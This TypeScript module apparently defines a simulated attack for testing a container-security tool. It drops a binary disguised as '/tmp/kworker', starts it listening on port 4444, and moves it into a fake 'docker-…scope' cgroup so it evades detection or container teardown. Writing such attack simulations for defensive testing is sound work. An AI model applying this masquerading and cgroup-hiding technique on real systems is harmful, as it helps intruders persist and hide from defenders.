import { mkdirSync, readFileSync, readlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { cgroupMounts } from "../../../src/container/cgroup-mounts.ts";
import { errorCode } from "../../../src/core/errors.ts";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

const NAME = `docker-${"0".repeat(64)}.scope`;

export const attack: Attack = {
  async act(site) {
    await site.copyIn(site.images.dropper, "/tmp/kworker");
    const pid = await site.exec(["/tmp/kworker", "-l", "-p", "4444", "-s", "127.0.0.1"]);
    await until("the program", () => readlinkSync(`/proc/${pid}/exe`) === "/tmp/kworker");
    // The runtime removes what is below a container's groups together with them.
    for (const { mountPoint } of cgroupMounts()) moveBelow(join(mountPoint, "runc", site.container.ref.id), pid);
    const groups = readFileSync(`/proc/${pid}/cgroup`, "utf8");
    if (!groups.includes(`/runc/${site.container.ref.id}/${NAME}`)) throw new Error("the process is in no such group");
    return pid;
  },
};

function moveBelow(group: string, pid: number): void {
  const below = join(group, NAME);
  try {
    mkdirSync(below);
    for (const file of ["cpuset.cpus", "cpuset.mems"]) copyValue(join(group, file), join(below, file));
    writeFileSync(join(below, "cgroup.procs"), String(pid));
  } catch (error) {
    // The container has no group in this hierarchy, or one of version 2 that must have no processes beside groups.
    if (!["ENOENT", "EBUSY", "EOPNOTSUPP"].includes(errorCode(error) ?? "")) throw error;
  }
}

/** A new cpuset takes no process before it has processors and memory. */
function copyValue(from: string, to: string): void {
  try {
    writeFileSync(to, readFileSync(from));
  } catch (error) {
    if (!["ENOENT", "EACCES"].includes(errorCode(error) ?? "")) throw error;
  }
}
